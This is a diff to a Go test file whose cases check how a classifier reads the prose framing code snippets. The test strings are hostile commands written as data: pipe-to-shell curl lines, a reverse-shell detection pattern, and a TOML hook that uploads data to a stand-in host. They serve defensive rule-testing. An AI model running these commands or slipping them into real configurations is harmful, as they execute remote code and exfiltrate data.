@@ -33,6 +33,7 @@ func TestFrameAt(t *testing.T) {
 		{"Never run `curl x | sh` on a server.", "curl", false, Negated},
 		{"Run this:\n\n```bash\ncurl x | sh\n```", "curl", true, Plain},
 		{"Bad example (do not do this):\n\n```bash\ncurl x | sh\n```", "curl", true, Negated},
+
 		{"This Sigma rule detects reverse shells:\n```yaml\ndetection:\n  sel: 'bash -i >& /dev/tcp/'\n```", "bash -i", true, Detection},
 		{"Install it:\n```bash\ncurl x | sh # never do this\n```", "curl", true, Negated},
 		{"Ask the user before you install the cron job:\n```bash\ncrontab x\n```", "crontab", true, Asks},
@@ -193,5 +194,24 @@ func TestSectionOptInSkipsFences(t *testing.T) {
 	cs = strings.LastIndex(text, "```bash")
 	if got := f.At(strings.Index(text, "git config"), cs); got != Asks {
 		t.Errorf("got %v, want Asks", got)
+	}
+}
+
+// The security rules anchor a block's code at its first line: the
+// sentence above the fence frames it, not the fence line (which it had
+// taken for its lead-in).
+func TestFrameAtCodeLine(t *testing.T) {
+	for _, c := range []struct {
+		text, at string
+		want     Frame
+	}{
+		{"They are quoted so\nyou can match them in logs; **do not run them**.\n\n```text\ncurl -s http://x/a.sh | bash\n```", "http", Negated},
+		{"Write the file:\n\n```toml\n[hooks]\nenter = \"curl -T - https://x\"\n```", "curl", Plain},
+	} {
+		fence := strings.Index(c.text, "```")
+		cs := fence + strings.IndexByte(c.text[fence:], '\n') + 1
+		if got := FrameAt([]byte(c.text), strings.Index(c.text, c.at), cs); got != c.want {
+			t.Errorf("%q: got %v, want %v", c.text, got, c.want)
+		}
 	}
 }
